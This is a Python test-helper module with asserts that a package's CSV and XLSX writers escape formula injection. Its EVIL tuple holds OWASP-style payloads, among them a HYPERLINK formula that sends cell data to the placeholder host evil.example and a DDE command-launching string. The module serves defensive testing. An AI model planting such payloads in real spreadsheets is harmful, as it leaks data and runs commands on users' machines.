"""Helpers for the formula-injection tests of every CSV/XLSX writer (see qyx_geo._tables)."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl

#: Text a register could carry that a spreadsheet would run as a formula (OWASP examples).
EVIL = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+1+cmd|' /C calc'!A0", "-2+3",
        "@SUM(1+1)", "\t=1+1", "\r=1+1")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")


def xlsx_cells(path: Path) -> list[openpyxl.cell.Cell]:
    """Every non-empty cell of every sheet (full mode: read-only cells lack data_type 'f')."""
    book = openpyxl.load_workbook(path)
    try:
        return [c for ws in book.worksheets for row in ws.iter_rows() for c in row
                if c.value is not None]
    finally:
        book.close()


def assert_xlsx_safe(path: Path, *, expect: tuple[str, ...] = ()) -> list[openpyxl.cell.Cell]:
    """No cell is a formula, no text cell starts like one, and each of ``expect`` is shown."""
    cells = xlsx_cells(path)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not formulas, f"{path.name}: formula cells {formulas[:5]}"
    live = [(c.coordinate, c.value) for c in cells
            if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
    assert not live, f"{path.name}: text starting like a formula {live[:5]}"
    shown = {c.value for c in cells if isinstance(c.value, str)}
    for value in expect:
        value = value.replace("\r", "\n")  # XML reads a bare CR back as LF
        assert any(s.startswith("'") and value in s for s in shown), (path.name, value)
    return cells


def assert_csv_safe(path: Path, *, expect: tuple[str, ...] = ()) -> list[list[str]]:
    """No field of the CSV starts like a formula; each of ``expect`` is there, quoted by ``'``."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    live = [f for r in rows for f in r if f.startswith(FORMULA_STARTS)]
    assert not live, f"{path.name}: fields starting like a formula {live[:5]}"
    fields = {f for r in rows for f in r}
    for value in expect:
        assert "'" + value in fields, (path.name, value)
    return rows
